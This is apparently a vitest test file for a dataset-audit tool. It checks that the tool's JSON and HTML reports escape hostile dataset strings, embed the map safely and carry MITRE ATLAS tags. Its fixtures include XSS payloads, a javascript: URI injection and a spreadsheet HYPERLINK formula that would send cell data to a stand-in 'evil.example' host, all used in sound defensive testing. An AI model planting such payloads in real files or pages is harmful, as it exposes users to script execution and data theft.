// The audit report: its JSON carries the evidence, and its HTML shows every dataset string as
// text (never markup) and loads nothing from anywhere.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadAndInfer } from '../../../src/core/load-and-infer';
import { describeDetectors } from '../../../src/core/detect/registry';
import { createManifest, verifyFiles } from '../../../src/core/provenance/manifest';
import { vetManifest } from '../../../src/core/provenance/vetting';
import { buildAudit, type AuditJournalEntry } from '../../../src/core/report/audit';
import { auditHtml, escapeHtml } from '../../../src/core/report/audit-html';
import { mapRows, mapSvg } from '../../../src/core/report/map-svg';
import { suspicionRanking } from '../../../src/core/report/ranking';
import { buildReport } from '../../../src/core/report/report-json';
import type { DatasetSummary, DetectorResult, ScanResult } from '../../../src/core/types';
import { sourceFromPath } from '../../../src/core/data/node-source';

const INJECTION = path.resolve('../shared/datasets/bad-inputs/formula-injection.csv');
const SCRIPT = '<script>alert(1)</script>';
const IMG = '<img src=x onerror=alert(1)>';

/** A scan result of `n` rows with hostile strings wherever the data can put a string. */
function fakeResult(n: number, ids: string[], classes: string[], flaggedRows: number[]): ScanResult {
  const labels = Int32Array.from({ length: n }, (_, i) => i % classes.length);
  const flagged = new Uint8Array(n);
  for (const r of flaggedRows) flagged[r] = 1;
  const suspicion = Float32Array.from({ length: n }, (_, i) =>
    flagged[i] ? 0.6 + (i % 10) / 40 : (i % 7) / 14,
  );
  const dim = 3;
  const embeddings = Float32Array.from({ length: n * dim }, (_, i) => Math.sin(i * 12.9898) * 3 + (i % dim));
  const reasons = Array.from({ length: n }, (_, i) =>
    flagged[i]
      ? { detector: 'confident-learning', tag: 'label', text: `${classes[0]} disputed ${IMG}` }
      : null,
  );
  const detector = (name: string, params: Record<string, unknown>): DetectorResult => ({
    name,
    scores: Float32Array.from(suspicion),
    flagged: Uint8Array.from(flagged),
    reasons,
    params,
  });
  return {
    n,
    ids,
    classes,
    labels,
    predicted: Int32Array.from(labels, (y) => (y + 1) % classes.length),
    probs: new Float32Array(n * classes.length).fill(1 / classes.length),
    embeddings,
    dim,
    knn: { k: 0, indices: new Int32Array(0), distances: new Float32Array(0) },
    detectors: [
      detector('confident-learning', { filterBy: 'prune_by_noise_rate', note: SCRIPT }),
      {
        ...detector('annotator-agreement', { minZ: 3 }),
        flagged: new Uint8Array(n),
        annotatorFindings: { table: [], suspect: [IMG] },
      },
    ],
    detectorInfo: describeDetectors(),
    suspicion,
    ranking: suspicionRanking(suspicion),
    flagged,
    reasons: reasons.map((r) => (r ? [r] : [])),
    annotators: [
      {
        annotator: IMG,
        items: n,
        flagged: flaggedRows.length,
        modelDisagreement: 0.5,
        neighbourDisagreement: 0.25,
        score: 4,
      },
    ],
    perClass: classes.map((label) => ({
      label,
      count: 1,
      flagged: 1,
      verdicts: [{ detector: 'spectral', class: label, kind: 'undecided' as const, text: `split ${label}` }],
    })),
    backend: 'cpu',
    settings: { seed: 7, folds: 4, k: 10, epochs: 0, roles: { label: SCRIPT }, embeddingSource: 'probe' },
    timings: { load: 12.3, probe: 45.6 },
    warnings: [`${IMG}: a warning`],
  };
}

/** The real loader's summary of formula-injection.csv, so its file name, hash and columns are real. */
async function injectionFixture(flaggedRows = [0, 2, 3]) {
  const { summary, loaded } = await loadAndInfer([sourceFromPath(INJECTION)]);
  const text = loaded.frame.columns.find((c) => c.name === 'text')!.values as string[];
  const comment = loaded.frame.columns.find((c) => c.name === 'comment')!.values as string[];
  const dataset: DatasetSummary = {
    ...summary,
    columns: [...summary.columns, { name: SCRIPT, type: 'string', role: 'ignore' }],
    rowErrors: [{ row: 2, message: `cannot decode ${IMG}` }],
  };
  // Sample ids and class names are the file's own hostile cells.
  const result = fakeResult(text.length, text, [comment[3], comment[0], text[4]], flaggedRows);
  return { dataset, result, text, comment };
}

const journal: AuditJournalEntry[] = [
  {
    seq: 2,
    at: '2026-01-02T10:00:00.000Z',
    kind: 'quarantine',
    rows: [3],
    ids: [IMG],
    from: [SCRIPT],
    note: '=HYPERLINK("http://evil.example","x")',
  },
  {
    seq: 1,
    at: '2026-01-02T09:00:00.000Z',
    kind: 'relabel',
    rows: [0, 2],
    ids: ['a', 'b'],
    from: ['cat', null],
    to: SCRIPT,
    note: 'looked wrong',
  },
];

/** Every real tag of the page: data cannot add one, since its '<' is escaped. */
const tags = (html: string) => html.match(/<[a-zA-Z][^>]*>/g) ?? [];

describe('buildAudit', () => {
  it('carries files, version, settings, backend, checks, findings, tables, manifest, journal and map', async () => {
    const { dataset, result } = await injectionFixture();
    const report = buildReport(dataset, result, new Date('2026-01-01T00:00:00Z'));
    const manifest = createManifest([{ name: 'formula-injection.csv', size: 1, sha256: '0'.repeat(64) }]);
    const verification = verifyFiles(
      manifest,
      dataset.files.map((f) => ({ name: f.name, size: f.bytes, sha256: f.sha256 })),
    );
    const audit = buildAudit({
      dataset,
      result,
      report,
      manifest: { source: 'm.json', results: verification },
      journal,
      mapImage: { svg: mapSvg(result).svg },
      backendReason: 'forced',
      generatedAt: new Date('2026-01-03T00:00:00Z'),
    });
    const bytes = fs.statSync(INJECTION).size;
    expect(audit).toMatchObject({
      format: 'assay-audit',
      version: 1,
      generatedAt: '2026-01-03T00:00:00.000Z',
      assay: { version: report.assay.version },
      input: {
        name: 'formula-injection.csv',
        rows: 7,
        files: [{ path: 'formula-injection.csv', size: bytes }],
      },
      backend: { name: 'cpu', reason: 'forced' },
      seed: 7,
      settings: result.settings,
      timingsMs: { load: 12, probe: 46 },
    });
    expect(audit.input.files[0].sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(audit.checks.map((c) => [c.name, c.flagged])).toEqual([
      ['confident-learning', 3],
      ['annotator-agreement', 0],
    ]);
    expect(audit.checks[0].params).toEqual({ filterBy: 'prune_by_noise_rate', note: SCRIPT });
    expect(audit.checks[0].description).toMatch(/Confident learning/);
    const byId = new Map(audit.findings.map((f) => [f.id, f]));
    expect(byId.get('manifest-modified')).toMatchObject({
      severity: 'high',
      count: 1,
      items: ['formula-injection.csv'],
    });
    expect(byId.get('flagged')?.count).toBe(3);
    expect(byId.get('detector:confident-learning')?.count).toBe(3);
    expect(byId.has('detector:annotator-agreement')).toBe(false);
    expect(byId.get('suspect-annotators')?.items).toEqual([IMG]);
    expect(byId.get('row-errors')?.count).toBe(1);
    for (const f of audit.findings) expect(f.explanation.length).toBeGreaterThan(20);
    expect(audit.flagged).toMatchObject({ total: 3, samplesShown: 3 });
    expect(audit.flagged.samples.map((s) => s.row).sort()).toEqual([0, 2, 3]);
    // The report writes each verdict as one line.
    expect(audit.perClass).toEqual(
      result.perClass.map((c) => ({ ...c, verdicts: { spectral: `split ${c.label}` } })),
    );
    expect(audit.annotators[0].annotator).toBe(IMG);
    expect(audit.manifest).toMatchObject({ source: 'm.json', counts: { modified: 1, verified: 0 } });
    expect(audit.journal.map((e) => e.seq)).toEqual([1, 2]);
    expect(audit.journal[0]).toEqual({ ...journal[1] });
    expect(audit.journal[1].to).toBeNull();
    expect(audit.map && 'svg' in audit.map).toBe(true);
    // Round-trips as JSON (the CLI writes it as audit.json).
    expect(JSON.parse(JSON.stringify(audit))).toEqual(audit);
  });
});

describe('auditHtml', () => {
  it('shows every dataset string escaped; no tag, handler or script survives', async () => {
    // Every row flagged, so every id is listed.
    const { dataset, result, text, comment } = await injectionFixture([0, 1, 2, 3, 4, 5, 6]);
    const report = buildReport(dataset, result);
    const verification = verifyFiles(createManifest([{ name: IMG, size: 1, sha256: 'a'.repeat(64) }]), [
      { name: SCRIPT, size: 3, sha256: 'b'.repeat(64) },
    ]);
    const html = auditHtml(
      buildAudit({
        dataset,
        result,
        report,
        manifest: verification,
        journal,
        mapImage: { svg: mapSvg(result).svg },
      }),
    );
    // Each hostile cell of the file appears, escaped.
    for (const s of [...text, comment[3], comment[0]]) expect(html).toContain(escapeHtml(s));
    expect(html).toContain('&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain(
      '=HYPERLINK(&quot;http://evil.example/steal?d=&quot;&amp;A1,&quot;Click me&quot;)',
    );
    expect(html).toContain('&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;b&gt;injected&lt;/b&gt;');
    expect(html).not.toMatch(/<script|<b>|<\/?table><b/i);
    for (const tag of tags(html)) {
      expect(tag).not.toMatch(/\son\w+\s*=|javascript:/i);
      if (/^<img/i.test(tag))
        expect(tag).toMatch(
          /^<img class="map" alt="[^"]*" src="data:image\/svg\+xml;base64,[A-Za-z0-9+/=]+">$/,
        );
    }
    // The only img is the map; there is no other element that could load or run anything.
    expect(tags(html).filter((t) => /^<(script|iframe|object|embed|link|base|form|svg)\b/i.test(t))).toEqual(
      [],
    );
  });

  it('records red-team runs, the attack text escaped', async () => {
    const { dataset, result } = await injectionFixture([0]);
    const report = buildReport(dataset, result);
    const run = {
      spec: { kind: 'phrase', phrase: '<script>alert(1)</script>', rate: 0.02 },
      description: 'phrase "<script>alert(1)</script>" into 2% of rows',
      planted: 12,
      auroc: 0.9915,
      k: 18,
      recallAtK: 0.75,
      flagged: { count: 20, truePositives: 11, precision: 0.55, recall: 0.9167, f1: 0.6875 },
      bestCheck: { name: 'support-gap', auroc: 0.998 },
      scanMs: 8123,
    };
    const audit = buildAudit({ dataset, result, report, redteam: [run] });
    expect(audit.redteam).toEqual([run]);
    expect(buildAudit({ dataset, result, report }).redteam).toEqual([]);
    const html = auditHtml(audit);
    expect(html).toContain('<h2>Red-team runs</h2>');
    expect(html).toContain('phrase &quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot; into 2% of rows');
    expect(html).toContain('<td>0.992</td>');
    expect(html).toContain('0.750 (k = 18)');
    expect(html).toContain('support-gap (0.998)');
    expect(html).not.toMatch(/<script/i);
    expect(auditHtml(buildAudit({ dataset, result, report }))).toContain('No red-team run was made.');
  });

  it('is self-contained: no reference to another origin, a CSP that forbids loading, print CSS', async () => {
    const { dataset, result } = await injectionFixture();
    const report = buildReport(dataset, result);
    const html = auditHtml(buildAudit({ dataset, result, report, mapImage: { svg: mapSvg(result).svg } }));
    for (const tag of tags(html)) expect(tag).not.toMatch(/https?:|\/\/[a-z]/i);
    const css = html.slice(html.indexOf('<style>'), html.indexOf('</style>'));
    expect(css).not.toMatch(/url\(|@import|@font-face|https?:/i);
    expect(css).toMatch(/@media print/);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; img-src data:"`);
    // Besides the text of the dataset's own cells, "http" appears nowhere: not even the SVG's
    // namespace, which is inside the base64 data URI.
    const withoutData = html.replaceAll(escapeHtml('http://evil.example'), '');
    expect(withoutData).not.toMatch(/https?:\/\//);
  });

  it('embeds the map as a data URI that decodes to the SVG; a PNG must be a real data URI', async () => {
    const { dataset, result } = await injectionFixture();
    const report = buildReport(dataset, result);
    const svg = mapSvg(result).svg;
    const html = auditHtml(buildAudit({ dataset, result, report, mapImage: { svg } }));
    const b64 = /src="data:image\/svg\+xml;base64,([^"]+)"/.exec(html)![1];
    expect(Buffer.from(b64, 'base64').toString('utf8')).toBe(svg);
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(auditHtml(buildAudit({ dataset, result, report, mapImage: { pngDataUri: png } }))).toContain(
      `src="${png}"`,
    );
    const evil = auditHtml(
      buildAudit({ dataset, result, report, mapImage: { pngDataUri: 'javascript:alert(1)" onerror="x' } }),
    );
    expect(evil).not.toContain('javascript:');
    expect(evil).toContain('was left out');
  });

  it('escapeHtml escapes the five HTML-special characters', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
    );
    expect(escapeHtml(null)).toBe('');
    expect(escapeHtml(3)).toBe('3');
  });
});

describe('mapSvg', () => {
  it('draws at most 5,000 points, always every flagged one, and only Assay’s own text', () => {
    const n = 12_000;
    const flaggedRows = Array.from({ length: 60 }, (_, i) => i * 199);
    const result = fakeResult(
      n,
      Array.from({ length: n }, (_, i) => `${SCRIPT}${i}`),
      [SCRIPT, IMG],
      flaggedRows,
    );
    const rows = mapRows(result);
    expect(rows.length).toBe(5000);
    const set = new Set(rows);
    for (const r of flaggedRows) expect(set.has(r)).toBe(true);
    const map = mapSvg(result);
    expect(map).toMatchObject({ points: 5000, flagged: 60, total: n });
    expect(map.svg).toMatch(/^<svg [^>]*>.*<\/svg>$/s);
    expect(map.svg).not.toMatch(/script|<img|alert|NaN/);
    // Compact: a few bytes a point, so an audit of 60k rows stays small.
    expect(map.svg.length).toBeLessThan(5000 * 16);
    // Deterministic for the same result.
    expect(mapSvg(result).svg).toBe(map.svg);
  });

  it('copes with no rows and with one-dimensional embeddings', () => {
    const empty = fakeResult(0, [], ['a', 'b'], []);
    expect(mapSvg(empty).points).toBe(0);
    const oneD = { ...fakeResult(20, Array.from({ length: 20 }, String), ['a', 'b'], [1]), dim: 1 };
    oneD.embeddings = Float32Array.from({ length: 20 }, (_, i) => i);
    expect(mapSvg(oneD).svg).not.toMatch(/NaN/);
  });
});

describe('buildAudit: MITRE ATLAS tags', () => {
  it('every finding and check carries its tags; vetting findings join the findings; the HTML shows them', async () => {
    const { dataset, result } = await injectionFixture();
    const report = buildReport(dataset, result, new Date('2026-01-01T00:00:00Z'));
    const manifest = createManifest([{ name: 'formula-injection.csv', size: 1, sha256: '0'.repeat(64) }]);
    const results = verifyFiles(
      manifest,
      dataset.files.map((f) => ({ name: f.name, size: f.bytes, sha256: f.sha256 })),
    );
    const vetting = vetManifest({
      ...manifest,
      files: manifest.files.map((f) => ({
        ...f,
        retrieved: '2026-03-01',
        vetted: '2026-02-01',
        vettedBy: IMG,
      })),
    });
    const audit = buildAudit({ dataset, result, report, manifest: { source: 'm.json', results, vetting } });
    const ids = audit.findings.map((f) => f.id);
    expect(ids).toEqual(
      expect.arrayContaining([
        'manifest-modified',
        'origin-missing',
        'licence-missing',
        'retrieved-after-vetting',
      ]),
    );
    for (const f of audit.findings) {
      if (f.id === 'manifest-verified' || f.id === 'rule-conflict') continue;
      expect(f.atlas.length, f.id).toBeGreaterThan(0);
      for (const t of f.atlas) expect(t.id).toMatch(/^AML\.T\d{4}(\.\d{3})?$/);
    }
    expect(audit.findings.find((f) => f.id === 'retrieved-after-vetting')!.atlas.map((t) => t.id)).toEqual([
      'AML.T0010.002',
      'AML.T0020',
    ]);
    for (const c of audit.checks) expect(c.atlas.length, c.name).toBeGreaterThan(0);
    expect(audit.atlasVersion).toBe('5.6.0');
    const html = auditHtml(audit);
    expect(html).toContain(
      '<span class="atlas" title="MITRE ATLAS AML.T0010.002: AI Supply Chain Compromise: Data">AML.T0010.002 AI Supply Chain Compromise: Data</span>',
    );
    expect(html).toContain('<h3>Source vetting</h3>');
    // The vetting record's strings are the data's: escaped.
    expect(html).not.toContain(IMG);
  });
});
